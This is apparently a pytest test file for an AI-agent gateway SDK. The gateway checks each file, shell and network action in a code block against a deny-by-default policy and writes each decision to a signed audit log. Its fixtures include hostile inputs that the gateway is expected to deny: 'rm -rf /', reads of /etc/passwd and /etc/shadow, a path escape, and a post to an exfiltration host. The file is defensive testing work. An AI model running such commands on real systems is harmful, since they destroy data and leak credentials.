"""Deciding code blocks: each action of a block is decided by the engine on a real
policy and recorded in a real audit log (source sdk, agent, block hash) before the
block may run; dynamic targets follow sdk.dynamic; simulate refuses nothing; a
decision the log cannot hold refuses."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from gateway.audit.reader import iter_entries
from gateway.audit.verify import verify_log
from gateway.errors import GatewayError, PolicyError
from gateway.policy.compiled import load_policy
from gateway.policy.model import Effect
from gateway.sdk import LocalDecider, judge_block, make_decider
from gateway.sdk.blocks import refusal

POLICY = """\
version: 1
default: deny
{extra}
rules:
  - {{action: file_read,  path: "${{PROJECT_DIR}}/workspace/**", effect: allow}}
  - {{action: file_write, path: "${{PROJECT_DIR}}/workspace/**", effect: allow}}
  - {{action: shell_exec, command: "python*", effect: allow}}
  - {{action: shell_exec, command: "rm*", effect: deny, reason: no deletes}}
  - {{action: network, host: "api.example", effect: allow}}
"""


class Setup:
    def __init__(self, root: Path, extra: str = "", simulate: bool = False) -> None:
        self.project = root / "project"
        self.workspace = self.project / "workspace"
        self.workspace.mkdir(parents=True)
        self.policy = root / "policy.yaml"
        self.policy.write_text(POLICY.format(extra=extra))
        self.log = root / "audit.jsonl"
        self.decider = LocalDecider(self.policy, self.log, agent="coder",
                                    project_dir=str(self.project), simulate=simulate)

    def judge(self, code: str, language: str = "python"):  # type: ignore[no-untyped-def]
        return judge_block(self.decider, code, language, cwd=str(self.workspace))

    def entries(self) -> list[dict[str, object]]:
        self.decider.close()
        if not self.log.exists():  # nothing was decided, so nothing opened the log
            return []
        key = bytes.fromhex(Path(f"{self.log}.key").read_text())
        assert verify_log(self.log, key=key).ok
        return [e for e in iter_entries(self.log) if "verdict" in e]


@pytest.fixture
def setup(tmp_path: Path) -> Setup:
    return Setup(tmp_path)


CASES = {
    "write in the workspace": ("python", 'open("out.csv", "w")', [("ALLOW", False)]),
    "read outside": ("python", 'open("/etc/passwd")', [("DENY", True)]),
    "relative path escaping the workspace": ("python", 'open("../secret")', [("DENY", True)]),
    "rm through os.system": ("python", 'import os\nos.system("rm -rf /")', [("DENY", True)]),
    "python through subprocess": ("python", 'import subprocess\nsubprocess.run(["python3", "x.py"])', [("ALLOW", False)]),
    "post to an unknown host": ("python", 'import requests\nrequests.post("https://exfil.invalid/")', [("DENY", True)]),
    "allowed host": ("python", 'import requests\nrequests.get("https://api.example/v1")', [("ALLOW", False)]),
    "one denied action refuses the block": ("python", 'open("a", "w")\nopen("/etc/shadow")', [("ALLOW", False), ("DENY", True)]),
    "dynamic path": ("python", "open(p)", [("DENY", True)]),
    "no actions": ("python", "print(1 + 1)", []),
    "shell block allowed": ("bash", "python3 analyse.py\n", [("ALLOW", False)]),
    "shell block with a denied part": ("sh", "python3 a.py && rm -rf data", [("DENY", True)]),
    "unknown language": ("ruby", "puts 1", [("DENY", True)]),
    "syntax error": ("python", "def (:", [("DENY", True)]),
}


@pytest.mark.parametrize("language, code, expected", CASES.values(), ids=CASES.keys())
def test_each_action_is_decided(setup: Setup, language: str, code: str,
                                expected: list[tuple[str, bool]]) -> None:
    """Verdicts per action, and the block is refused iff one of them blocks."""
    verdict = setup.judge(code, language)
    assert [(j.ruling.verdict, j.ruling.blocks) for j in verdict.judged] == expected
    assert verdict.refused == any(blocks for _, blocks in expected)
    assert len(setup.entries()) == len(expected)


def test_every_decision_is_recorded_with_the_block(setup: Setup) -> None:
    """One entry per decision: source sdk, the agent, the block's SHA-256, line, call."""
    code = 'import os\nopen("a.txt", "w")\nos.system("rm -rf /")\n'
    setup.judge(code)
    first, second = setup.entries()
    digest = hashlib.sha256(code.encode()).hexdigest()
    assert first == {**first, "source": "sdk", "agent": "coder", "action": "file_write",
                     "path": str(setup.workspace / "a.txt"), "verdict": "ALLOW", "rule": 1,
                     "block": digest, "line": 2, "call": 'open("a.txt", "w")',
                     "language": "python", "imports": "os"}
    assert second == {**second, "action": "shell_exec", "command": "rm -rf /",
                      "verdict": "DENY", "reason": "rm -rf /: no deletes", "rule": 3,
                      "part": "rm -rf /", "block": digest, "line": 3}


def test_dynamic_deny_is_recorded(setup: Setup) -> None:
    """By default (sdk.dynamic absent: deny) a run-time target refuses the block."""
    (judged,) = setup.judge("open(name)").judged
    assert judged.ruling.blocks
    assert judged.ruling.reason == ("dynamic: the path is built at run time, so it cannot be "
                                    "judged before it runs (sdk.dynamic is deny)")
    (entry,) = setup.entries()
    assert (entry["verdict"], entry["dynamic"], entry["path"]) == ("DENY", True, "")


def test_dynamic_allow_relies_on_runtime_enforcement(tmp_path: Path) -> None:
    """sdk.dynamic: allow lets a run-time target through, recorded as such."""
    setup = Setup(tmp_path, extra="sdk: {dynamic: allow}")
    verdict = setup.judge("import subprocess\nsubprocess.run(cmd, shell=True)")
    assert not verdict.refused
    (entry,) = setup.entries()
    assert (entry["verdict"], entry["dynamic"], entry["action"]) == ("ALLOW", True, "shell_exec")
    assert "runtime enforcement" in str(entry["reason"])


def test_simulate_refuses_nothing_and_records_would_denies(tmp_path: Path) -> None:
    """In simulate mode a denied action lets the block run; the log has the DENY."""
    setup = Setup(tmp_path, simulate=True)
    verdict = setup.judge('open("/etc/passwd")\nopen(p)')
    assert not verdict.refused
    assert [j.ruling.would_deny for j in verdict.judged] == [True, True]
    assert [(e["verdict"], e["mode"]) for e in setup.entries()] == [("DENY", "simulate")] * 2


def test_an_unrecordable_decision_refuses(tmp_path: Path) -> None:
    """When the audit log cannot be written, even an allowed action refuses the block."""
    (tmp_path / "file").write_text("")
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.format(extra=""))
    decider = LocalDecider(policy, tmp_path / "file" / "audit.jsonl",
                           key_file=tmp_path / "key", project_dir=str(tmp_path))
    verdict = judge_block(decider, 'open("workspace/a", "w")', "python", cwd=str(tmp_path))
    (judged,) = verdict.judged
    assert verdict.refused and judged.ruling.reason.startswith("audit log unavailable: ")


def test_the_log_reopens_after_close(setup: Setup) -> None:
    """A decider closed (executor stopped) records again on the next block, in one chain."""
    setup.judge('open("a", "w")')
    setup.decider.close()
    setup.judge('open("b", "w")')
    assert [Path(str(e["path"])).name for e in setup.entries()] == ["a", "b"]


def test_refusal_names_each_denied_action(setup: Setup) -> None:
    """The agent's message names each denied action, where it is and why."""
    verdicts = [setup.judge('open("ok.txt", "w")'),
                setup.judge('import os\nopen("/etc/passwd")\nos.system("rm -rf /")'),
                setup.judge("rm -rf data", "bash")]
    verdicts = [type(v)(i, v.analysis, v.judged) for i, v in enumerate(verdicts, 1)]
    assert refusal(verdicts).splitlines() == [
        "The gateway refused to run this code, so none of it ran:",
        "block 2 of 3 (python):",
        '  line 2: open("/etc/passwd") reads /etc/passwd: denied: /etc/passwd matches no '
        "allow rule; the policy default is deny",
        '  line 3: os.system("rm -rf /") runs rm -rf /: denied: rm -rf /: no deletes',
        "block 3 of 3 (bash):",
        "  the script: denied: rm -rf data: no deletes",
        "Change the code so that every file, command and host it uses is allowed by the "
        "policy.",
    ]


SDK_SECTIONS = {
    "absent means deny": ("", Effect.DENY),
    "deny": ("sdk: {dynamic: deny}", Effect.DENY),
    "allow": ("sdk: {dynamic: allow}", Effect.ALLOW),
}


@pytest.mark.parametrize("extra, dynamic", SDK_SECTIONS.values(), ids=SDK_SECTIONS.keys())
def test_sdk_section(tmp_path: Path, extra: str, dynamic: Effect) -> None:
    path = tmp_path / "p.yaml"
    path.write_text(POLICY.format(extra=extra))
    assert load_policy(path, project_dir=str(tmp_path)).sdk_dynamic is dynamic


@pytest.mark.parametrize("extra", ["sdk: {dynamic: maybe}", "sdk: {dynamc: deny}",
                                   "sdk: deny"])
def test_bad_sdk_section_is_a_policy_error(tmp_path: Path, extra: str) -> None:
    path = tmp_path / "p.yaml"
    path.write_text(POLICY.format(extra=extra))
    with pytest.raises(PolicyError, match=r"p\.yaml:3: .*sdk"):
        load_policy(path, project_dir=str(tmp_path))


ARGUMENTS = {
    "neither": ({}, "give either policy="),
    "both": ({"policy": "p", "gateway": "tcp:127.0.0.1:1"}, "give either policy="),
    "policy without log": ({"policy": "p"}, "needs audit_log="),
    "log with gateway": ({"gateway": "tcp:127.0.0.1:1", "audit_log": "l"}, "pass only agent="),
}


@pytest.mark.parametrize("kwargs, message", ARGUMENTS.values(), ids=ARGUMENTS.keys())
def test_decider_arguments(kwargs: dict[str, str], message: str) -> None:
    """Arguments that do not say one decider are a GatewayError naming the fix."""
    with pytest.raises(GatewayError, match=message):
        make_decider(**kwargs)  # type: ignore[arg-type]


def test_an_unreachable_gateway_refuses(tmp_path: Path) -> None:
    """No gateway at the address: every action is refused (fail closed)."""
    decider = make_decider(gateway=f"unix:{tmp_path / 'none.sock'}")
    verdict = judge_block(decider, 'open("a", "w")', "python", cwd=str(tmp_path))
    (judged,) = verdict.judged
    assert verdict.refused
    assert judged.ruling.reason.startswith("no decision: no gateway is running")
